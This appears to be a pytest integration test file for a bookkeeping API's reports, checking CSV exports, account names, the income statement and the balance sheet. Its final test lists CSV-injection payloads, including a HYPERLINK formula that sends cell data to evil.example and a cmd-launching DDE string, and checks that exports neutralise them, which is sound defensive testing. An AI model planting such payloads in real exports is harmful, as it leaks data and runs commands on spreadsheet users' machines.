"""Reports as a user expects them: account names, CSV, income statement, balance sheet.

On the real app, with the books replaced by a stub whose chart names every code
"Konto <code>" (tests/integration/test_ledger_http.py), so the names can be checked.
"""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from dependency_injector import providers

from bookkeeper.application.errors import ExternalError
from bookkeeper.backends import Backends
from tests.http_helpers import API, Api, media_type_parameters, memory_container, running_api
from tests.integration.test_ledger_http import CHART, accountant, post, with_stub_backends

SALE = (
    "2026-03-02",
    [("1920", "1250.00", None), ("3000", None, "1000.00"), ("2700", None, "250.00")],
)
RENT = ("2026-03-03", [("6300", "400.10", None), ("1920", None, "400.10")])
WAGES = ("2026-03-04", [("5000", "300.00", None), ("1920", None, "300.00")])
INTEREST = ("2026-03-05", [("1920", "12.30", None), ("8050", None, "12.30")])
LATE = ("2026-04-01", [("6300", "99.00", None), ("1920", None, "99.00")])


def entry(spec: tuple[str, list[tuple[str, str | None, str | None]]]) -> dict[str, Any]:
    date, lines = spec
    return {
        "date": date,
        "description": "Test",
        "lines": [
            {"account": a, **({"debit": d} if d else {}), **({"credit": c} if c else {})}
            for a, d, c in lines
        ],
    }


@pytest.fixture
async def api(tmp_path: Path) -> AsyncIterator[Api]:
    container = with_stub_backends(memory_container(tmp_path))
    async with running_api(tmp_path, container=container) as running:
        for spec in (SALE, RENT, WAGES, INTEREST, LATE):
            assert (await post(running, entry(spec), accountant(running))).status_code == 201
        yield running


def rows(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    return list(csv.DictReader(io.StringIO(response.text)))


def two_decimals(value: str) -> bool:
    return value == "" or (Decimal(value).as_tuple().exponent == -2)


async def test_the_trial_balance_names_its_accounts_from_the_chart(api: Api) -> None:
    body = (await api.client.get(f"{API}/reports/trial-balance", headers=api.viewer)).json()
    names = {a["account"]: a["name"] for a in body["accounts"]}
    for code, name in names.items():
        assert name == (f"Konto {code}" if code in CHART else None)
    assert names["8050"] is None  # not in the stub chart


@pytest.mark.parametrize("how", ["accept", "query"])
async def test_the_trial_balance_as_csv_has_the_json_figures(api: Api, how: str) -> None:
    params = {"to": "2026-03-31"}
    headers = dict(api.viewer)
    if how == "accept":
        headers["Accept"] = "text/csv"
    else:
        params["format"] = "csv"
    table = rows(
        await api.client.get(f"{API}/reports/trial-balance", params=params, headers=headers)
    )
    as_json = (
        await api.client.get(
            f"{API}/reports/trial-balance", params={"to": "2026-03-31"}, headers=api.viewer
        )
    ).json()
    assert [r["account"] for r in table[:-1]] == [a["account"] for a in as_json["accounts"]]
    columns = ("opening", "debit", "credit", "balance", "carried", "closing")
    assert list(table[0]) == ["account", "name", *columns]
    for row, account in zip(table, as_json["accounts"], strict=False):
        assert (row["name"] or None) == account["name"]
        assert [row[k] for k in columns] == [account[k] for k in columns]
    assert table[-1]["account"] == "total"
    assert table[-1]["debit"] == table[-1]["credit"] == as_json["totals"]["debit"]
    assert [table[-1][k] for k in columns] == [as_json["totals"][k] for k in columns]
    assert all(two_decimals(r[k]) for r in table for k in columns)


async def test_json_stays_the_default_and_a_wrong_format_is_a_400(api: Api) -> None:
    default = await api.client.get(
        f"{API}/reports/trial-balance", headers=api.viewer | {"Accept": "*/*"}
    )
    assert default.headers["content-type"].startswith("application/json")
    browser = await api.client.get(
        f"{API}/reports/vat",
        params={"year": 2026, "term": 2},
        headers=api.viewer | {"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"},
    )
    assert browser.headers["content-type"].startswith("application/json")
    wrong = await api.client.get(
        f"{API}/reports/trial-balance", params={"format": "xml"}, headers=api.viewer
    )
    assert wrong.status_code == 400
    assert [e["field"] for e in wrong.json()["errors"]] == ["format"]


@pytest.mark.parametrize(
    "path",
    [
        "trial-balance",
        "general-ledger?account=1920",
        "vat?year=2026&term=2",
        "unknown-accounts",
        "approval-rate",
        "income-statement",
        "balance-sheet",
    ],
)
async def test_every_report_answers_csv(api: Api, path: str) -> None:
    response = await api.client.get(
        f"{API}/reports/{path}", headers=api.viewer | {"Accept": "text/csv"}
    )
    table = rows(response)
    assert table or response.text.count("\r\n") == 1  # at least the header


async def test_a_csv_download_names_its_charset_once(api: Api) -> None:
    response = await api.client.get(f"{API}/reports/trial-balance?format=csv", headers=api.viewer)
    assert response.status_code == 200
    assert media_type_parameters(response.headers["content-type"]) == ["charset"]


async def test_the_income_statement_groups_by_ns4102(api: Api) -> None:
    response = await api.client.get(
        f"{API}/reports/income-statement",
        params={"from": "2026-03-01", "to": "2026-03-31"},
        headers=api.viewer,
    )
    assert response.status_code == 200, response.text
    body = response.json()
    groups = {g["group"]: g for g in body["groups"]}
    assert groups["revenue"]["lines"] == [
        {"account": "3000", "name": "Konto 3000", "amount": "1000.00"}
    ]
    assert groups["payroll"]["total"] == "300.00"
    assert groups["otherOperatingCosts"]["total"] == "400.10"  # April's 99.00 is outside
    assert groups["costOfGoods"] == {
        "group": "costOfGoods",
        "title": "Varekostnad",
        "lines": [],
        "total": "0.00",
    }
    assert groups["financialItems"]["lines"] == [
        {"account": "8050", "name": None, "amount": "12.30"}
    ]
    revenue = Decimal("1000.00")
    costs = Decimal("300.00") + Decimal("400.10")
    assert Decimal(body["operatingResult"]) == revenue - costs
    assert Decimal(body["result"]) == revenue - costs + Decimal("12.30")
    # No tax (83xx) nor dispositions (88xx–89xx) posted: the result before tax is the result.
    assert (body["resultBeforeTax"], body["tax"], body["dispositions"]) == (
        body["result"],
        "0.00",
        "0.00",
    )
    table = rows(
        await api.client.get(
            f"{API}/reports/income-statement",
            params={"from": "2026-03-01", "to": "2026-03-31", "format": "csv"},
            headers=api.viewer,
        )
    )
    assert table[-1] == {"group": "result", "account": "", "name": "", "amount": body["result"]}


async def test_the_balance_sheet_balances_with_the_unallocated_result(api: Api) -> None:
    for at in ("2026-03-31", None):
        params = {"at": at} if at else {}
        response = await api.client.get(
            f"{API}/reports/balance-sheet", params=params, headers=api.viewer
        )
        assert response.status_code == 200, response.text
        body = response.json()
        groups = {g["group"]: g for g in body["groups"]}
        assert [line["account"] for line in groups["assets"]["lines"]] == ["1920"]
        assert groups["equityAndLiabilities"]["lines"] == [
            {"account": "2700", "name": "Konto 2700", "amount": "250.00"}
        ]
        statement = (
            await api.client.get(
                f"{API}/reports/income-statement",
                params={"to": at} if at else {},
                headers=api.viewer,
            )
        ).json()
        assert body["unallocatedResult"] == statement["result"]
        assert body["totalAssets"] == body["totalEquityAndLiabilities"]
        assert body["unclassified"] == []


class FailingChart:
    name = "down"

    async def accounts(self) -> list[Any]:
        raise ExternalError("the books are down", system="fiken", status=503)


async def test_a_report_without_the_chart_still_answers_without_names(tmp_path: Path) -> None:
    container = memory_container(tmp_path)
    books = FailingChart()
    container.backends.override(
        providers.Object(
            Backends(
                books=lambda tenant: books,  # type: ignore[arg-type,return-value]
                bank=lambda tenant: None,  # type: ignore[arg-type,return-value]
                books_backend="stub",
                bank_backend="stub",
            )
        )
    )
    async with running_api(tmp_path, container=container) as api:
        assert (await post(api, entry(RENT), accountant(api))).status_code == 201
        response = await api.client.get(f"{API}/reports/trial-balance", headers=api.viewer)
        assert response.status_code == 200, response.text
        assert {a["name"] for a in response.json()["accounts"]} == {None}


async def test_the_openapi_document_offers_csv_on_every_report(api: Api) -> None:
    schema = (await api.client.get("/schema/openapi.json")).json()
    reports = {
        path: item["get"]
        for path, item in schema["paths"].items()
        if path.startswith(f"{API}/reports/")
    }
    assert len(reports) == 8  # with /reports/costs (issue 11)
    for path, operation in reports.items():
        assert "text/csv" in operation["responses"]["200"]["content"], path
        assert "format" in {p["name"] for p in operation["parameters"]}, path


#: Cells a spreadsheet would run as a formula (OWASP "CSV injection"): = + - @, a tab, a CR.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klikk")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]


@pytest.mark.parametrize("text", FORMULAS)
async def test_a_text_that_is_a_formula_is_exported_as_text(api: Api, text: str) -> None:
    """A supplier or a description named as a formula reaches a spreadsheet as the text it
    is (a leading apostrophe, which a spreadsheet shows as nothing), never run; amounts,
    minus signs included, stay numbers."""
    body = entry(("2026-03-06", [("6300", "10.00", None), ("1920", None, "10.00")]))
    body["description"] = text
    body["lines"][0]["description"] = text
    posted = await post(api, body, accountant(api))
    assert posted.status_code == 201, posted.text
    response = await api.client.get(
        f"{API}/reports/general-ledger?account=6300&format=csv", headers=api.viewer
    )
    table = rows(response)
    shown = [r["description"] for r in table if text.strip() in r["description"]]
    assert shown == ["'" + text], table
    assert all(not r["description"].startswith(("=", "+", "-", "@", "\t")) for r in table)
    sales = await api.client.get(
        f"{API}/reports/general-ledger?account=3000&format=csv", headers=api.viewer
    )
    assert rows(sales)[-1]["balance"] == "-1000.00"  # a number: as it is
